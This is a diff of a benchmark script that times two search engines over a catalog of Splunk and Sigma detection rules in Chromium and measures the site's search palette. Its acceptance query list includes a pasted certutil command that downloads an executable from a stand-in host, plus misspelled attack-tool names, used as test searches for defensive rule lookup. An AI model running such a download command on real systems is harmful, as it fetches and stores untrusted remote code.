@@ -3,35 +3,50 @@
  *
  * Builds `/search-index.json` and `/search-ids.json` for CATALOG_CONTENT (default: both corpora,
  * ../shared/corpora/security_content and ../shared/corpora/sigma, those present) exactly as the
- * route handlers do, prints their raw and gzipped sizes, then bundles the browser half of the
- * search (lib/search/load-index.ts + run.ts) and times it in Chromium
- * (CHROMIUM_PATH, default /usr/bin/chromium): fetch + parse + load of the index, then p50/p95
- * latency of the 50 fixed queries of lib/search/bench-queries.ts (one warm-up round, then
- * ROUNDS timed rounds). With a built out/, also prints a rule page's first-load JS.
- * Prints figures; it is not a test.
+ * route handlers do and prints their raw and gzipped sizes. Then, in one Chromium page, times the
+ * engine of lib/search beside the previous engine (its hand-written word index, checked out from
+ * git at PREVIOUS_ENGINE into .atlas/ for this run only): load of the index (fetch + parse +
+ * tables + term index; for the current engine also from the saved term index, as a second visit
+ * does), and p50/p95 of the 50 fixed queries of lib/search/bench-queries.ts, both engines in the
+ * same rounds (one warm-up round, then ROUNDS timed rounds). It prints the acceptance queries'
+ * top results (typos, a pasted command line).
+ *
+ * With a built out/ of the same catalog, it also times the palette as a person meets it (served
+ * by scripts/static-server.mjs): when the index is ready after load (idle prewarm), `/` → first
+ * result after 2 s idle, on a second visit (term index from IndexedDB), and on a cold page
+ * without the prewarm (`/` pressed as soon as the page is parsed); and a rule page's first-load JS.
+ * `--no-palette` skips the palette timings. Prints figures; it is not a test.
  */
-import { existsSync, readdirSync } from "node:fs"
+import { execFileSync, spawn } from "node:child_process"
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
 import { createServer } from "node:http"
 import type { AddressInfo } from "node:net"
 import { loadavg } from "node:os"
+import { join } from "node:path"
 import { gzipSync } from "node:zlib"
 
-import { chromium } from "@playwright/test"
+import { chromium, type Browser } from "@playwright/test"
 import { build } from "esbuild"
 
 import { loadCatalog } from "../lib/catalog/load.node.ts"
 import { indexCatalog } from "../lib/catalog/views.ts"
 import { BENCH_QUERIES } from "../lib/search/bench-queries.ts"
-import { WARM_UP_QUERIES } from "../lib/search/run.ts"
 import { buildSearchIds, buildSearchIndex } from "../lib/search/build-index.ts"
 import { firstLoadJs } from "./bench/first-load.ts"
 
+/** The last commit of the previous engine (word index by hand), compared against in every run. */
+const PREVIOUS_ENGINE = "fd6f6e71b519a0fed341ca4a0cf1d8d1d6c9bfa7"
 const ROUNDS = Number(process.env.ROUNDS ?? 9)
 const CORPORA = ["../shared/corpora/security_content", "../shared/corpora/sigma"].filter((c) => existsSync(c))
 const roots = process.env.CATALOG_CONTENT ? process.env.CATALOG_CONTENT.split(",") : CORPORA
 if (roots.length === 0) throw new Error("no corpus: set CATALOG_CONTENT or provide ../shared/corpora")
 const log = (line: string) => process.stdout.write(`${line}\n`)
 const kib = (n: number) => `${(n / 1024).toFixed(1)} KiB`
+const pct = (xs: number[], p: number) => {
+  const s = [...xs].sort((a, b) => a - b)
+  return s[Math.min(s.length - 1, Math.max(0, Math.ceil((p / 100) * s.length) - 1))] ?? 0
+}
+const ms = (x: number) => `${x.toFixed(x < 10 ? 2 : 0)} ms`
 
 const catalog = loadCatalog({ roots })
 const started = performance.now()
@@ -40,32 +55,60 @@ const json = JSON.stringify(await buildSearchIndex(indexed))
 const idsJson = JSON.stringify(buildSearchIds(indexed))
 log(`machine load average ${loadavg().map((l) => l.toFixed(1)).join(" ")} (1, 5, 15 min; timings are wall-clock; a busy machine inflates them)`)
 log(`corpus: ${roots.join(",")}: ${catalog.detections.length} rules; index built in ${Math.round(performance.now() - started)} ms`)
-log(`index size: ${kib(json.length)} raw, ${kib(gzipSync(json, { level: 9 }).length)} gzipped`)
+log(`shipped index (/search-index.json, the packed records): ${kib(json.length)} raw, ${kib(gzipSync(json, { level: 9 }).length)} gzipped`)
 log(`ids (/search-ids.json, fetched only by a query that can match an id): ${kib(idsJson.length)} raw, ${kib(gzipSync(idsJson, { level: 9 }).length)} gzipped`)
+
+// The previous engine, from git, for this run only.
+const OLD = ".atlas/bench-previous-search"
+rmSync(OLD, { recursive: true, force: true })
+mkdirSync(join(OLD, "lib/search"), { recursive: true })
+const oldFiles = execFileSync("git", ["ls-tree", "--name-only", PREVIOUS_ENGINE, "lib/search/"], { encoding: "utf8" }).split("\n").filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts"))
+for (const f of oldFiles) writeFileSync(join(OLD, f), execFileSync("git", ["show", `${PREVIOUS_ENGINE}:${f}`], { encoding: "utf8" }))
+
+const ACCEPTANCE = ["powershel", "mimikats", "kerberost", "certutil -urlcache -split -f http://x.example/a.exe a.exe", "wmic", "T1047"]
 
 const bundle = await build({
   stdin: {
     contents: `
-      import { addIds, loadSearchIndex } from "./lib/search/load-index.ts"
+      import { loadSearchIndex } from "./lib/search/load-index.ts"
       import { runSearch, WARM_UP_QUERIES } from "./lib/search/run.ts"
+      import { exportTermIndex } from "./lib/search/term-index.ts"
+      import { loadSearchIndex as oldLoad } from "./${OLD}/lib/search/load-index.ts"
+      import { runSearch as oldRun } from "./${OLD}/lib/search/run.ts"
       import { BENCH_QUERIES } from "./lib/search/bench-queries.ts"
-      globalThis.bench = async (rounds) => {
+      globalThis.bench = async (rounds, acceptance) => {
         const t0 = performance.now()
-        const data = await (await fetch("/search-index.json")).json()
-        const t1 = performance.now()
-        const s = loadSearchIndex(data)
-        const t2 = performance.now()
-        const cold = BENCH_QUERIES.map((q) => { const a = performance.now(); runSearch(s, q, {}, 50); return performance.now() - a })
-        const i0 = performance.now()
-        addIds(s, await (await fetch("/search-ids.json")).json())
-        const idsMs = performance.now() - i0
-        const fresh = loadSearchIndex(data)
+        const text = await (await fetch("/search-index.json")).text()
+        const data = JSON.parse(text)
+        const fetchParse = performance.now() - t0
+        const o0 = performance.now()
+        const old = oldLoad(JSON.parse(text))
+        const oldLoadMs = performance.now() - o0
+        const n0 = performance.now()
+        const cur = loadSearchIndex(data)
+        const newLoadMs = performance.now() - n0
+        const saved = JSON.parse(JSON.stringify(await exportTermIndex(cur.terms)))
+        const savedBytes = JSON.stringify(saved).length
+        const c0 = performance.now()
+        loadSearchIndex(JSON.parse(text), undefined, saved)
+        const cachedLoadMs = performance.now() - c0
         const w0 = performance.now()
-        for (const q of WARM_UP_QUERIES) runSearch(fresh, q, {}, 8)
+        for (const q of WARM_UP_QUERIES) runSearch(cur, q, {}, 8)
         const warmUpMs = performance.now() - w0
-        const warm = []
-        for (let i = 0; i < rounds; i++) for (const q of BENCH_QUERIES) { const a = performance.now(); runSearch(s, q, {}, 50); warm.push(performance.now() - a) }
-        return { fetchParse: t1 - t0, importMs: t2 - t1, cold, warm, warmUpMs, idsMs }
+        for (const q of WARM_UP_QUERIES) oldRun(old, q, {}, 8)
+        const times = { old: [], cur: [] }
+        for (let i = 0; i <= rounds; i++) for (const q of BENCH_QUERIES) {
+          let a = performance.now(); oldRun(old, q, {}, 50); const to = performance.now() - a
+          a = performance.now(); runSearch(cur, q, {}, 50); const tc = performance.now() - a
+          // Round 0 warms both engines up.
+          if (i > 0) { times.old.push(to); times.cur.push(tc) }
+        }
+        const top = acceptance.map((q) => {
+          const r = runSearch(cur, q, {}, 10)
+          const o = oldRun(old, q, {}, 10)
+          return { q, total: r.total, corrected: r.corrected, hits: r.hits.map((h) => h.format + ": " + h.name), oldTotal: o.total }
+        })
+        return { fetchParse, oldLoadMs, newLoadMs, cachedLoadMs, savedBytes, warmUpMs, times, top }
       }`,
     resolveDir: process.cwd(),
     loader: "ts",
@@ -79,7 +122,8 @@ const bundle = await build({
 const js = bundle.outputFiles[0]?.text ?? ""
 
 const executablePath = process.env.CHROMIUM_PATH ?? (existsSync("/usr/bin/chromium") ? "/usr/bin/chromium" : undefined)
-const browser = await chromium.launch({ executablePath, args: ["--no-sandbox", "--disable-gpu"] })
+const args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"]
+const browser = await chromium.launch({ executablePath, args })
 try {
   // A real local HTTP server (gzip off, as from disk): Playwright's request interception would
   // add its own transfer time to the load figure.
@@ -93,33 +137,147 @@ try {
   await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok))
   const page = await browser.newPage()
   await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
-  const r = await page.evaluate((rounds) => (globalThis as unknown as { bench: (n: number) => Promise<{ fetchParse: number; importMs: number; cold: number[]; warm: number[]; warmUpMs: number; idsMs: number }> }).bench(rounds), ROUNDS)
-  const pct = (xs: number[], p: number) => {
-    const s = [...xs].sort((a, b) => a - b)
-    return (s[Math.min(s.length - 1, Math.ceil((p / 100) * s.length) - 1)] ?? 0).toFixed(2)
-  }
-  log(`load in Chromium: fetch + JSON parse ${r.fetchParse.toFixed(0)} ms, unpack + tables ${r.importMs.toFixed(0)} ms, total ${(r.fetchParse + r.importMs).toFixed(0)} ms; ids fetch + add ${r.idsMs.toFixed(0)} ms`)
-  log(`worker warm-up after load (${WARM_UP_QUERIES.length} queries, off the main thread): ${r.warmUpMs.toFixed(0)} ms`)
-  log(`queries (${r.cold.length} fixed), first run on a cold engine: p50 ${pct(r.cold, 50)} ms, p95 ${pct(r.cold, 95)} ms, max ${pct(r.cold, 100)} ms`)
-  log(`queries, ${ROUNDS} warm rounds (${r.warm.length} runs): p50 ${pct(r.warm, 50)} ms, p95 ${pct(r.warm, 95)} ms, max ${pct(r.warm, 100)} ms`)
-  // A busy machine adds pauses to single runs; each query's median over the rounds is steadier.
-  const perQuery = BENCH_QUERIES.map((q, i) => ({ q, median: Number(pct(r.warm.filter((_, j) => j % BENCH_QUERIES.length === i), 50)) }))
-  const medians = perQuery.map((x) => x.median)
-  log(`queries, median of each over the rounds: p50 ${pct(medians, 50)} ms, p95 ${pct(medians, 95)} ms, max ${pct(medians, 100)} ms`)
-  // The fastest run of each query is the one least disturbed by other processes: the nearest
-  // figure to a quiet machine that a shared one gives.
-  const mins = BENCH_QUERIES.map((_, i) => Math.min(...r.warm.filter((_, j) => j % BENCH_QUERIES.length === i)))
-  log(`queries, fastest run of each over the rounds (quiet-machine estimate): p50 ${pct(mins, 50)} ms, p95 ${pct(mins, 95)} ms, max ${pct(mins, 100)} ms`)
-  log(`slowest (warm median): ${perQuery.sort((a, b) => b.median - a.median).slice(0, 5).map((x) => `${x.q} ${x.median.toFixed(2)} ms`).join(", ")}`)
+  type Top = { q: string; total: number; corrected?: string; hits: string[]; oldTotal: number }
+  type Run = { fetchParse: number; oldLoadMs: number; newLoadMs: number; cachedLoadMs: number; savedBytes: number; warmUpMs: number; times: { old: number[]; cur: number[] }; top: Top[] }
+  const r = await page.evaluate(([rounds, acceptance]) => (globalThis as unknown as { bench: (n: number, a: string[]) => Promise<Run> }).bench(rounds, acceptance), [ROUNDS, ACCEPTANCE] as const)
   server.close()
+  log(`load in Chromium (fetch + JSON parse ${ms(r.fetchParse)} apart): previous engine ${ms(r.oldLoadMs)}; FlexSearch engine ${ms(r.newLoadMs)} built, ${ms(r.cachedLoadMs)} from the saved term index (${kib(r.savedBytes)} in IndexedDB, never shipped); warm-up ${ms(r.warmUpMs)}`)
+  for (const [label, xs] of [
+    ["previous engine", r.times.old],
+    ["FlexSearch engine", r.times.cur],
+  ] as const) {
+    const medians = BENCH_QUERIES.map((_, i) => pct(xs.filter((_, j) => j % BENCH_QUERIES.length === i), 50))
+    log(`${label}: ${BENCH_QUERIES.length} queries × ${ROUNDS} rounds: p50 ${ms(pct(xs, 50))}, p95 ${ms(pct(xs, 95))}, max ${ms(pct(xs, 100))}; median per query: p50 ${ms(pct(medians, 50))}, p95 ${ms(pct(medians, 95))}`)
+  }
+  const cur = BENCH_QUERIES.map((q, i) => ({ q, median: pct(r.times.cur.filter((_, j) => j % BENCH_QUERIES.length === i), 50) }))
+  log(`slowest (FlexSearch engine, median): ${cur.sort((a, b) => b.median - a.median).slice(0, 5).map((x) => `${x.q} ${ms(x.median)}`).join(", ")}`)
+  for (const t of r.top) {
+    log(`"${t.q}": ${t.total} rules${t.corrected ? ` (showing results for "${t.corrected}")` : ""}, previous engine ${t.oldTotal}; top 5: ${t.hits.slice(0, 5).join(" | ")}`)
+  }
+  if (process.argv.includes("--no-palette")) log("palette timings skipped (--no-palette)")
+  else await pagePalette(browser)
 } finally {
   await browser.close()
+  rmSync(OLD, { recursive: true, force: true })
 }
 
-// First-load JS of a rule page and of /search/ as built in out/ (either catalog): the palette,
-// its worker and the index must stay out of it.
-const rulePage = ["splunk", "sigma"].flatMap((f) => (existsSync(`out/rules/${f}`) ? readdirSync(`out/rules/${f}`).sort().slice(0, 1).map((slug) => `rules/${f}/${slug}`) : []))[0]
-for (const page of [rulePage, "search"]) {
-  const f = page === undefined ? undefined : firstLoadJs("out", page)
-  if (f) log(`first-load JS of /${page}/: ${f.scripts} scripts, ${kib(f.raw)} raw, ${kib(f.gz)} gzipped`)
+/**
+ * The palette on the built site in out/, when it holds this catalog: ready time, and `/` → first
+ * result in three situations. Skipped, saying why, otherwise.
+ */
+async function pagePalette(b: Browser): Promise<void> {
+  const shipped = existsSync("out/search-index.json") ? readFileSync("out/search-index.json", "utf8") : ""
+  if (shipped !== json) {
+    log(`palette timings skipped: out/ does not hold this catalog's build (CATALOG_CONTENT=${roots.join(",")} npm run build first)`)
+    return
+  }
+  // A free port, then the site's own static server on it.
+  const probe = createServer()
+  await new Promise<void>((ok) => probe.listen(0, "127.0.0.1", ok))
+  const port = (probe.address() as AddressInfo).port
+  await new Promise((ok) => probe.close(ok))
+  const server = spawn(process.execPath, ["scripts/static-server.mjs", "out", String(port)], { stdio: ["ignore", "pipe", "inherit"] })
+  try {
+    await new Promise<void>((ok, fail) => {
+      server.stdout.once("data", () => ok())
+      server.on("exit", () => fail(new Error("the static server stopped")))
+    })
+    const base = `http://127.0.0.1:${port}`
+    /** `/` then `winrs`: ms from the key press to the first result, measured in the page. */
+    const slashToResult = async (p: import("@playwright/test").Page) => {
+      await p.evaluate(() => {
+        const w = window as unknown as { slashAt?: number; firstAt?: number }
+        window.addEventListener("keydown", (e) => e.key === "/" && (w.slashAt ??= performance.now()), { capture: true })
+        const list = document.getElementById("atlas-search-list")
+        if (list) new MutationObserver(() => list.querySelector('[role="option"]') && (w.firstAt ??= performance.now())).observe(list, { childList: true, subtree: true })
+      })
+      await p.keyboard.press("/")
+      await p.keyboard.type("winrs")
+      await p.locator('#atlas-search-list [role="option"]').first().waitFor({ timeout: 60_000 })
+      return p.evaluate(() => {
+        const w = window as unknown as { slashAt?: number; firstAt?: number }
+        return (w.firstAt ?? 0) - (w.slashAt ?? 0)
+      })
+    }
+    const readyAfterLoad = (p: import("@playwright/test").Page) =>
+      p.evaluate(async () => {
+        while (performance.getEntriesByName("atlas-search-ready").length === 0) await new Promise((ok) => setTimeout(ok, 20))
+        const mark = performance.getEntriesByName("atlas-search-ready")[0] as PerformanceMark
+        const nav = performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming
+        return { afterLoad: mark.startTime - nav.loadEventEnd, worker: (mark.detail as { workerMs: number; cached: boolean }).workerMs, cached: (mark.detail as { cached: boolean }).cached }
+      })
+    /** Waits until `ms` after the page's load event. */
+    const untilAfterLoad = async (p: import("@playwright/test").Page, wait: number) => {
+      const since = await p.evaluate(() => performance.now() - (performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming).loadEventEnd)
+      await p.waitForTimeout(Math.max(0, wait - since))
+    }
+    for (const path of ["/", firstRulePage()].filter((x): x is string => x !== undefined)) {
+      const ctx = await b.newContext()
+      const p = await ctx.newPage()
+      // First visit: / pressed 2 s after load, ready or not; the ready time read afterwards.
+      await p.goto(base + path)
+      await untilAfterLoad(p, 2000)
+      const idle = await slashToResult(p)
+      const ready = await readyAfterLoad(p)
+      // Second visit (same browser profile: HTTP cache and IndexedDB kept), once the first has
+      // saved its term index (a person comes back later than a script): / at once after load.
+      const savedMs = await p.evaluate(async () => {
+        const t0 = performance.now()
+        const count = () =>
+          new Promise<number>((ok) => {
+            const req = indexedDB.open("atlas-search")
+            req.onsuccess = () => {
+              const db = req.result
+              if (!db.objectStoreNames.contains("term-index")) {
+                db.close()
+                ok(0)
+                return
+              }
+              const c = db.transaction("term-index").objectStore("term-index").count()
+              c.onsuccess = () => {
+                db.close()
+                ok(c.result)
+              }
+              c.onerror = () => {
+                db.close()
+                ok(0)
+              }
+            }
+            req.onerror = () => ok(0)
+          })
+        while ((await count()) === 0 && performance.now() - t0 < 20_000) await new Promise((ok) => setTimeout(ok, 100))
+        return performance.now() - t0
+      })
+      await p.goto(base + path)
+      const again = await slashToResult(p)
+      const readyAgain = await readyAfterLoad(p)
+      // Third visit: / 2 s after load.
+      await p.goto(base + path)
+      await untilAfterLoad(p, 2000)
+      const againIdle = await slashToResult(p)
+      const third = await readyAfterLoad(p)
+      await ctx.close()
+      const cold = await b.newContext()
+      const c = await cold.newPage()
+      await c.goto(base + path, { waitUntil: "domcontentloaded" })
+      const noPrewarm = await slashToResult(c)
+      await cold.close()
+      log(
+        `palette on ${path}: index ready ${ms(ready.afterLoad)} after load (worker ${ms(ready.worker)}); / → first result after 2 s idle ${ms(idle)}; ` +
+          `later visits (term index ${readyAgain.cached ? "from IndexedDB" : "rebuilt"}, saved ${ms(savedMs)} after the first was measured): ready ${ms(readyAgain.afterLoad)} after load (${ms(third.afterLoad)} on a third), / at once after load → first result ${ms(again)}, / 2 s after load ${ms(againIdle)}; ` +
+          `cold, / as soon as the page is parsed (no prewarm) ${ms(noPrewarm)}`,
+      )
+    }
+  } finally {
+    server.kill()
+  }
+  // First-load JS of a rule page and of /search/: the palette, its worker and the index stay out.
+  for (const page of [firstRulePage()?.slice(1, -1), "search"]) {
+    const f = page === undefined ? undefined : firstLoadJs("out", page)
+    if (f) log(`first-load JS of /${page}/: ${f.scripts} scripts, ${kib(f.raw)} raw, ${kib(f.gz)} gzipped`)
+  }
+}
+
+function firstRulePage(): string | undefined {
+  return ["splunk", "sigma"].flatMap((f) => (existsSync(`out/rules/${f}`) ? readdirSync(`out/rules/${f}`).sort().slice(0, 1).map((slug) => `/rules/${f}/${slug}/`) : []))[0]
 }
